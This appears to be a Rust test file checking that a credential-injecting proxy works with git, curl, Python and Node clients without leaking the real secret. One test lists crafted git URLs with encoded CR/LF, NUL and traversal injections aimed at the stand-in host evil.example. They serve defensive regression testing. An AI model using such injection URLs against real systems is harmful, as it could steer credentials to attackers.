//! Real clients behind the proxy.

use std::process::Command;

use super::{Bench, CANARY, Upstream};

/// What git of this machine says.
fn git(arguments: &[&str]) -> String {
    let out = Command::new("git")
        .args(arguments)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(out.status.success(), "{arguments:?}: {out:?}");
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn git_clones_and_pushes_with_a_placeholder_for_its_password() {
    let bench = Bench::new();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("docs.git").display().to_string();
    git(&["init", "--quiet", "--bare", "--initial-branch=main", &path]);
    git(&["--git-dir", &path, "config", "http.receivepack", "true"]);
    let upstream = Upstream::git(&bench.authority, folder.path());
    bench.put(&upstream.host(), &["--send-as", "basic"]);
    let script = format!(
        "set -e
        git clone --quiet https://x-access-token:$API@localhost:{port}/git/docs.git docs
        cd docs
        git config user.name a; git config user.email a@b.example
        head -c 3000000 /dev/urandom > large
        git add large
        git commit --quiet --message first
        git push --quiet origin HEAD:main
        git fetch --quiet
        cat .git/config",
        port = upstream.port
    );
    let said = bench.says(&[], &script);
    assert!(!said.contains(CANARY), "{said}");
    assert_eq!(git(&["--git-dir", &path, "log", "--format=%s", "main"]), "first\n");
}

#[test]
fn t30_git_reaches_no_other_host_and_no_other_path_by_line_ends_in_a_url() {
    let bench = Bench::new();
    let folder = tempfile::tempdir().unwrap();
    for name in ["docs.git", "other.git"] {
        git(&["init", "--quiet", "--bare", &folder.path().join(name).display().to_string()]);
    }
    let upstream = Upstream::git(&bench.authority, folder.path());
    bench.put(&upstream.host(), &["--send-as", "basic", "--path", "/git/docs.git/*"]);
    let (host, port) = (upstream.host(), upstream.port);
    let urls = [
        // As in CVE-2020-5260, -11008 and 2024-52006: what git would write into a line of its protocol.
        format!("https://x:$API@{host}%0ahost=evil.example/git/docs.git"),
        format!("https://x:$API@{host}%0d%0ahost=evil.example/git/docs.git"),
        format!("https://x%0ahost=evil.example:$API@{host}/git/docs.git"),
        format!("https://x%0d:$API@{host}/git/docs.git"),
        format!("https://x:$API%0d@{host}/git/docs.git"),
        format!("https://x:$API@{host}/git/docs.git/%0d%0aHost:%20evil.example"),
        format!("https://x:$API@{host}/git/docs.git/%00"),
        format!("https://x:$API@{host}/git%2fdocs.git"),
        format!("https://x:$API@{host}/git/docs.git/%2e%2e/other.git"),
        format!("https://x:$API@localhost%3a{port}/git/docs.git"),
        format!("https://x:$API@localhost%00.evil.example:{port}/git/docs.git"),
    ];
    // One that is as it should be comes through, so that the others are refused for what they are.
    let good = format!("https://x:$API@{host}/git/docs.git");
    let tries: String = urls
        .iter()
        .chain([&good])
        .map(|url| format!("timeout 20 git ls-remote \"{url}\" 2>&1 || true\n"))
        .collect();
    let said = bench.says(&[], &format!("export GIT_TERMINAL_PROMPT=0 GIT_CONFIG_GLOBAL=/dev/null\n{tries}"));
    assert!(!said.contains(CANARY), "{said}");
    let seen = upstream.seen();
    let with_it: Vec<_> = seen.iter().filter(|seen| seen.header("authorization").is_some()).collect();
    // Two requests of the good one, and none of any other.
    let targets: Vec<_> = with_it.iter().map(|seen| &*seen.target).collect();
    let good = ["/git/docs.git/info/refs?service=git-upload-pack", "/git/docs.git/git-upload-pack"];
    assert_eq!(targets, good, "{said}");
    assert!(with_it.iter().all(|seen| seen.header("host") == Some(&*host)));
    println!("T30: {} URLs", urls.len());
}

#[test]
fn pythons_own_client_goes_through_the_proxy() {
    let bench = Bench::new();
    let upstream = bench.upstream();
    bench.put(&upstream.host(), &[]);
    let script = format!(
        "python3 -c 'import os, urllib.request as r
request = r.Request(\"{}\", data=b\"x\" * 100000, headers={{\"Authorization\": \"Bearer \" + os.environ[\"API\"]}})
print(r.urlopen(request).read().decode())'",
        upstream.url("/a")
    );
    assert_eq!(bench.says(&[], &script), "fine\n");
    assert_eq!(upstream.seen()[0].body.len(), 100_000);
    assert!(upstream.has_seen(CANARY));
}

#[test]
fn p7_a_client_that_knows_no_proxy_uses_a_credential_by_a_url_of_this_machine() {
    let bench = Bench::new();
    let upstream = bench.upstream();
    bench.put(&upstream.host(), &["--path", "/api/*"]);
    let script = format!(
        "for path in api/x x; do
            curl -sS -m 20 --noproxy '*' -o /dev/null -w '%{{http_code}} ' -H \"Authorization: Bearer $API\" \"$TOUCHLEASE_BASE_URL/https/{0}/$path\"
        done
        curl -sS -m 20 --noproxy '*' -w '%{{http_code}}' -o /dev/null \"${{TOUCHLEASE_BASE_URL%/*}}/https/{0}/api/x\"",
        upstream.host()
    );
    assert_eq!(bench.says(&[], &script), "200 403 407");
    let seen = upstream.seen();
    assert_eq!((seen.len(), seen[0].target.as_str()), (1, "/api/x"));
    assert_eq!(seen[0].header("authorization"), Some(format!("Bearer {CANARY}").as_str()));
    let used = bench.log("used");
    assert_eq!(used[0]["what"], format!("GET localhost:{}/api/x", upstream.port));
}

/// A program of the packages that `hw-tests/with-clients` installs.
fn with_client(program: &str, script: &str) {
    let client = std::env::var(program).unwrap_or_else(|_| panic!("hw-tests/with-clients sets {program}"));
    let bench = Bench::new();
    let upstream = bench.upstream();
    bench.put(&upstream.host(), &[]);
    let file = bench.lab.home.work().join("script");
    std::fs::write(&file, script.replace("URL", &upstream.url("/a"))).unwrap();
    let run = ["run", "--with", "API=prod/API", "--", &client, "script"];
    assert_eq!(bench.lab.prints(&run), "fine\nfine\nfine\n");
    assert_eq!(upstream.seen().len(), 3);
    let bearer = format!("Bearer {CANARY}");
    assert!(upstream.seen().iter().all(|seen| seen.header("authorization") == Some(&bearer)));
    println!("client {program}: 3 of 3 requests");
}

#[test]
#[ignore = "needs hw-tests/with-clients"]
fn requests_goes_through_the_proxy() {
    with_client(
        "CLIENT_PYTHON",
        "import os, requests
session = requests.Session()
session.headers['Authorization'] = 'Bearer ' + os.environ['API']
for n in range(3):
    print(session.post('URL', data=b'x' * 50_000).text)
",
    );
}

#[test]
#[ignore = "needs hw-tests/with-clients"]
fn httpx_goes_through_the_proxy() {
    with_client(
        "CLIENT_PYTHON",
        "import os, httpx
with httpx.Client(headers={'Authorization': 'Bearer ' + os.environ['API']}) as client:
    for n in range(3):
        print(client.get('URL').text)
",
    );
}

#[test]
#[ignore = "needs hw-tests/with-clients"]
fn nodes_fetch_goes_through_the_proxy() {
    with_client(
        "CLIENT_NODE",
        "(async () => {
    for (let n = 0; n < 3; n++) {
        const answer = await fetch('URL', { headers: { authorization: `Bearer ${process.env.API}` } });
        console.log(await answer.text());
    }
})();
",
    );
}
